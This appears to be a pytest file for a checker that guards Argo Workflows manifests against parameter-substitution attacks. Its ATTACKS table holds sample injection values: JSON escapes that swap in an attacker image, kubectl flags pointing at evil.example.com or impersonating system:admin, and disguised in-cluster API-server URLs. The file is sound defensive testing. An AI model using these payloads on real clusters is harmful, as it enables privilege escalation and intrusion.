"""What Argo makes of texts that it fills in is what was checked: attacks that rewrote it, and values that are right."""

from __future__ import annotations

import json
import re

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from k8s.envs import environment
from k8s.objects import manifests, strict_yaml
from k8s.objects.manifests import Manifest
from k8s.prepare import argo_texts
from tests.k8s.conftest import NEW, Checkout
from tests.k8s.rules.flows import TRAIN, checked

SAFE = "{allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}"
HEAD = """\
apiVersion: v1
kind: ServiceAccount
metadata: {name: runner, namespace: jobs}
---
apiVersion: argoproj.io/v1alpha1
kind: KIND
metadata: {name: w, namespace: jobs}
spec:
  entrypoint: main
  serviceAccountName: runner
  activeDeadlineSeconds: 3600
  ttlStrategy: {secondsAfterCompletion: 600}
  podGC: {strategy: OnPodSuccess}
"""
MAIN = f"      container: {{image: {TRAIN}, command: [x], securityContext: {SAFE}}}\n"
PATCH = "  templates:\n    - name: main\n      podSpecPatch: %s\n" + MAIN


def workflow(rest: str, kind: str = "Workflow") -> str:
    return HEAD.replace("KIND", kind) + rest


def arguments(**values: str) -> str:
    listed = ", ".join(f"{{name: {json.dumps(name)}, value: {json.dumps(value)}}}" for name, value in values.items())
    return f"  arguments: {{parameters: [{listed}]}}\n"


def patch(text: str) -> str:
    return PATCH % json.dumps(text)


def resource(text: str, action: str = "action: create") -> str:
    inside = "".join(f"          {line}\n" for line in text.splitlines())
    return f"  templates:\n    - name: main\n      resource:\n        {action}\n        manifest: |\n{inside}"


def found(checkout: Checkout, text: str) -> list[str]:
    return [one.text() for one in checked(checkout, text)[1]]


JOB = f"""\
apiVersion: batch/v1
kind: Job
metadata: {{name: "shards-{{{{workflow.uid}}}}", namespace: jobs}}
spec:
  completions: {{{{workflow.parameters.workers}}}}
  parallelism: {{{{workflow.parameters.workers}}}}
  template:
    spec:
      restartPolicy: Never
      containers: [{{name: c, image: {TRAIN}}}]
"""


def test_quantities_and_numbers_may_be_parameters(checkout: Checkout) -> None:
    limits = "{containers: [{name: main, resources: {limits: {nvidia.com/gpu: '{{workflow.parameters.n}}', memory: '%s'}}}]}"
    text = workflow(arguments(n="2", memory="64Gi") + patch(limits % "{{workflow.parameters.memory}}"))
    assert found(checkout, text) == []
    assert found(checkout, workflow(arguments(workers="4") + resource(JOB))) == []


def test_a_bare_number_stays_bare_when_the_image_beside_it_is_pinned(checkout: Checkout) -> None:
    rendered, wrong = checked(checkout, workflow(arguments(workers="4") + resource(JOB)))
    assert wrong == ()
    (flow,) = [one for one in rendered.objects if one.kind == "Workflow"]
    text = flow.body["spec"]["templates"][0]["resource"]["manifest"]
    assert "completions: {{workflow.parameters.workers}}\n" in text
    filled = yaml.safe_load(text.replace("{{workflow.parameters.workers}}", "4"))
    assert (filled["spec"]["completions"], filled["metadata"]["name"]) == (4, "shards-{{workflow.uid}}")
    assert filled["spec"]["template"]["spec"]["containers"][0]["image"] == f"registry.example.com/llm/{TRAIN}@{NEW}"


@pytest.mark.parametrize("written", ["{{workflow.parameters.n}}Gi", "'{{workflow.parameters.n}}Gi'"])
def test_a_value_may_be_part_of_a_quantity(checkout: Checkout, written: str) -> None:
    text = f"containers:\n- name: main\n  resources:\n    limits:\n      memory: {written}\n"
    assert found(checkout, workflow(arguments(n="4") + patch(text))) == []
    assert any("'lotsGi' is not a quantity" in one for one in found(checkout, workflow(arguments(n="lots") + patch(text))))


def test_each_value_of_a_parameter_is_judged(checkout: Checkout) -> None:
    steps = "  templates:\n    - name: main\n      steps: [[%s]]\n    - name: one\n      inputs: {parameters: [{name: m}]}\n"
    steps += (
        "      podSpecPatch: \"{containers: [{name: main, resources: {limits: {memory: '{{inputs.parameters.m}}'}}}]}\"\n"
        + MAIN
    )
    call = "{name: s%d, template: one, arguments: {parameters: [{name: m, value: '%s'}]}}"
    right = ", ".join(call % (number, value) for number, value in enumerate(("1Gi", "2Gi")))
    assert found(checkout, workflow(steps % right)) == []
    wrong = ", ".join(call % (number, value) for number, value in enumerate(("1Gi", "2Gi", "3GB")))
    assert any("'3GB' is not a quantity" in one for one in found(checkout, workflow(steps % wrong)))
    listed = "{name: s, template: one, withItems: [1Gi, 3GB], arguments: {parameters: [{name: m, value: '{{item}}'}]}}"
    assert any("'3GB' is not a quantity" in one for one in found(checkout, workflow(steps % listed)))
    assert found(checkout, workflow(steps % listed.replace("3GB", "3Gi"))) == []


def test_patches_of_any_object_are_read(checkout: Checkout) -> None:
    for text in (
        "- {op: replace, path: /spec/replicas, value: 2}\n",
        'metadata:\n  annotations: {a.example/run: "{{workflow.uid}}"}\n',
    ):
        action = "action: patch\n        mergeStrategy: json\n        flags: [deployment, web]"
        assert found(checkout, workflow(resource(text, action))) == []


ESCAPE = 'z"},"containers":[{"name":"main","image":"docker.io/attacker/x"}],"nodeSelector":{"a":"b'
OUTPUT = f"""\
  templates:
    - name: main
      steps:
        - - {{name: a, template: a}}
        - - name: b
            template: b
            arguments: {{parameters: [{{name: zone, value: "{{{{steps.a.outputs.result}}}}"}}]}}
    - name: a
      script: {{image: {TRAIN}, command: [python], source: "print(1)", securityContext: {SAFE}}}
    - name: b
      inputs: {{parameters: [{{name: zone}}]}}
"""
ZONE = '{"nodeSelector":{"zone":"%s"}}'
POD = (
    f"apiVersion: v1\nkind: Pod\nmetadata: {{name: p, namespace: jobs}}\nspec: {{containers: [{{name: c, image: {TRAIN}}}]}}\n"
)
KNOWN_LATE, WRITES_FIELDS = "is known only when it runs", "could write fields of its own"
ATTACKS = {
    "output of a step in a patch": (
        OUTPUT + f"      podSpecPatch: '{ZONE % '{{inputs.parameters.zone}}'}'\n" + MAIN,
        KNOWN_LATE,
    ),
    "value that ends the text": (
        arguments(p=ESCAPE) + patch(ZONE % "{{workflow.parameters.p}}"),
        WRITES_FIELDS,
    ),
    "two halves": (
        arguments(p='z"},"ima', q='ge":"x') + patch(ZONE % "{{workflow.parameters.p}}{{workflow.parameters.q}}"),
        WRITES_FIELDS,
    ),
    "line break": (arguments(p="a\nimage: x") + patch("nodeSelector: {zone: '{{workflow.parameters.p}}'}"), WRITES_FIELDS),
    "colon and blank": (arguments(p="a: b") + patch("nodeSelector: {zone: {{workflow.parameters.p}}}"), WRITES_FIELDS),
    "value of a value": (
        arguments(p="{{workflow.parameters.q}}", q=ESCAPE) + patch(ZONE % "{{workflow.parameters.p}}"),
        WRITES_FIELDS,
    ),
    "expression": (patch(ZONE % "{{=sprig.b64dec('eA==')}}"), KNOWN_LATE),
    "annotation of the run": (patch(ZONE % "{{workflow.annotations.x}}"), KNOWN_LATE),
    "whole patch": (arguments(p="a") + patch("{{workflow.parameters.p}}"), "cannot be read"),
    "key of a patch": (
        arguments(p="ge") + patch('containers: [{name: main, "ima{{workflow.parameters.p}}": attacker/x}]'),
        "a key is made of a value",
    ),
    "kind": (
        arguments(p="Pod") + resource(POD.replace("kind: Pod", 'kind: "{{workflow.parameters.p}}"').replace(TRAIN, "busybox")),
        "is not pinned",
    ),
    "half an image": (
        arguments(p="attacker") + resource(POD.replace(TRAIN, "docker.io/{{workflow.parameters.p}}/x")),
        "only a whole parameter can",
    ),
    "image of a JSON patch": (
        resource(
            "- {op: replace, path: /spec/template/spec/containers/0/image, value: docker.io/attacker/x}\n",
            "action: patch\n        mergeStrategy: json\n        flags: [deployment, web]",
        ),
        "docker.io/attacker/x is not pinned",
    ),
    "container of a JSON patch": (
        resource(
            "- {op: add, path: /spec/template/spec/containers/-, value: {name: x, image: busybox}}\n",
            "action: patch\n        mergeStrategy: json\n        flags: [deployment, web]",
        ),
        "no digest is known for busybox",
    ),
    "container of a merge patch": (
        resource(
            "spec: {template: {spec: {containers: [{name: x, image: busybox}]}}}\n",
            "action: patch\n        flags: [deployment, web]",
        ),
        "no digest is known for busybox",
    ),
    "output of a step in a manifest": (
        OUTPUT
        + "      resource:\n        action: create\n        manifest: |\n"
        + "".join(
            f"          {line}\n"
            for line in POD.replace("spec: {", 'spec: {nodeName: "{{inputs.parameters.zone}}", ').splitlines()
        ),
        KNOWN_LATE,
    ),
}
for flags in (
    '["-f", "https://evil.example.com/pod.yaml"]',
    '["--filename=/tmp/x"]',
    '["-fhttps://evil.example.com/x"]',
    '["-k", "/x"]',
    '["deployment", "web", "-p", "{}"]',
    '["--patch-file=/x"]',
    '["--server=https://evil.example.com"]',
    '["--kubeconfig=/x"]',
    '["--as=system:admin"]',
    '["--token=x"]',
    '["--overwrite", "https://evil.example.com/x"]',
):
    ATTACKS[f"flags {flags}"] = (
        resource(POD, f"action: apply\n        flags: {flags}"),
        "may name a file, an address or content",
    )
ATTACKS["flag that is a value"] = (
    arguments(p="-fx") + resource(POD, 'action: apply\n        flags: ["{{workflow.parameters.p}}"]'),
    "may name a file, an address or content",
)
ATTACKS["flag that is known late"] = (
    OUTPUT + '      resource: {action: get, flags: ["{{inputs.parameters.zone}}"], manifest: "kind: Pod\\napiVersion: v1"}\n',
    KNOWN_LATE,
)
HTTP = "  templates:\n    - name: main\n      http: {url: '%s', method: POST, body: %s}\n"
ATTACKS["body that is made when it runs"] = (
    HTTP % ("https://a.example", "'{{workflow.name}}'"),
    "a body that is made when it runs",
)
ATTACKS["body with an escaped key"] = (
    HTTP % ("https://a.example", r"""'{"spec":{"containers":[{"im\u0061ge":"docker.io/attacker/x"}]}}'"""),
    "docker.io/attacker/x is not pinned",
)
for host in ("kubernetes.default.svc", "kubernetes", "kubernetes.default.svc.cluster.local.:443", "KUBERNETES.default"):
    ATTACKS[f"API server {host}"] = (HTTP % (f"https://{host}/api/v1/namespaces/jobs/pods", "x"), "past every check")
for address in (
    "https://10.96.0.1/api",
    "https://[::ffff:10.96.0.1]/api",
    "https://{{workflow.name}}/api",
    "{{inputs.parameters.url}}",
    "https://%6bubernetes.default.svc/api",
    "https:kubernetes.default.svc/api",
    "//kubernetes.default.svc/api",
    "https://kubernetes.default.svc\\@a.example/api",
    "https://a.example@kubernetes.default.svc/api",
    "https://kubernetes。default。svc/api",
    "https://kubernetes.default.svc:https/api",
    "https://a.example\u2028/",
):
    ATTACKS[f"host of {address}"] = (HTTP % (address, "x"), "the host cannot be told")
for plugin in ("runner: {img: docker.io/attacker/x}", "runner: {code: x}"):
    ATTACKS[f"plugin {plugin}"] = (
        f"  templates:\n    - name: main\n      plugin: {{{plugin}}}\n",
        "a plugin runs it, and no set holds one",
    )
LABELLED = "{name: p, namespace: jobs, labels: {workflows.argoproj.io/configmap-type: ExecutorPlugin}}"
ATTACKS["plugin that a workflow makes"] = (
    resource(f"apiVersion: v1\nkind: ConfigMap\nmetadata: {LABELLED}\ndata: {{a: b}}\n"),
    "a plugin of Argo's executor",
)
ATTACKS["workflow that a workflow makes of a template elsewhere"] = (
    resource(
        "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nmetadata: {generateName: x, namespace: jobs}\n"
        "spec: {workflowTemplateRef: {name: elsewhere}}\n"
    ),
    "in this set: nobody checked it",
)
for op in ("copy", "move"):
    ATTACKS[f"{op} of a JSON patch"] = (
        resource(
            f"- {{op: {op}, from: /metadata/annotations/a, path: /spec/template/spec/containers/0/image}}\n",
            "action: patch\n        mergeStrategy: json\n        flags: [deployment, web]",
        ),
        f"a patch that does {op}: nobody checked the value",
    )
ATTACKS["parameter in an annotation"] = (
    arguments(p="attacker/x")
    + "  podMetadata: {annotations: {a.example/proxyImage: '{{workflow.parameters.p}}'}}\n  templates:\n    - name: main\n"
    + MAIN,
    "attacker/x is not pinned",
)


@pytest.mark.parametrize("name", ATTACKS)
def test_what_would_rewrite_what_was_checked_is_refused(checkout: Checkout, name: str) -> None:
    text, what = ATTACKS[name]
    assert any(what in one for one in found(checkout, workflow(text)))


def test_a_value_that_somebody_gives_later_is_not_known(checkout: Checkout) -> None:
    text = "  arguments: {parameters: [{name: p}]}\n" + patch(ZONE % "{{workflow.parameters.p}}")
    assert any(KNOWN_LATE in one for one in found(checkout, workflow(text, "WorkflowTemplate")))


def test_a_template_that_is_not_in_the_set_is_refused(checkout: Checkout) -> None:
    for scope in ("", ", clusterScope: true"):
        spec = f"spec: {{workflowTemplateRef: {{name: other{scope}}}}}\n"
        text = f"apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nmetadata: {{name: w, namespace: jobs}}\n{spec}"
        assert any("in this set: nobody checked it" in one for one in found(checkout, text))


def test_a_plugin_of_the_executor_is_refused(checkout: Checkout) -> None:
    labels = "labels: {workflows.argoproj.io/configmap-type: ExecutorPlugin}"
    text = f"apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: p, namespace: jobs, {labels}}}\ndata: {{a: b}}\n"
    assert any("a plugin of Argo's executor" in one for one in found(checkout, text))


def argo(text: str, values: dict[str, str]) -> str:
    """A template's text after Argo's replacement (util/template/simple_template.go): JSON, each value escaped once."""
    written = json.dumps(text)
    filled = re.sub(r"\{\{(.*?)\}\}", lambda match: json.dumps(values[match[1].strip()])[1:-1], written)
    return str(json.loads(filled))


@given(st.text(max_size=20) | st.from_regex(r"[A-Za-z0-9._:/@+-]{0,12}", fullmatch=True))
@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_value_that_is_taken_changes_the_structure(value: str) -> None:
    """Differential: what Argo's own replacement makes of a patch has the fields that were written, and no other."""
    text = "{'nodeSelector': {'zone': '{{workflow.parameters.p}}'}}".replace("'", '"')
    (account, body) = yaml.safe_load_all(workflow(arguments(p="P") + patch(text)))
    body["spec"]["arguments"]["parameters"][0]["value"] = value
    made = argo_texts.fill([Manifest("f", account, {}), Manifest("f", body, {})])
    if made.refused:
        return
    after = yaml.safe_load(argo(text, {"workflow.parameters.p": value}))
    assert after == {"nodeSelector": {"zone": value}}
    assert made.rounds[0][1].body["spec"]["templates"][0]["podSpecPatch"] == argo(text, {"workflow.parameters.p": value})


def test_of_the_projects_own_set_the_number_of_gpus_is_filled_in_and_nothing_else() -> None:
    env = environment.load("rendered")
    objects, _ = manifests.load([environment.folder().parent / "manifests"])
    made = argo_texts.fill(objects)
    assert (env.name, made.refused, len(made.rounds)) == ("rendered", (), 1)
    before, after = (strict_yaml.dump(one.body for one in found).splitlines() for found in (objects, made.rounds[0]))
    changed = [(old, new) for old, new in zip(before, after, strict=True) if old != new]
    assert changed
    assert all(old.replace('"{{workflow.parameters.gpus}}"', '"1"') == new for old, new in changed)
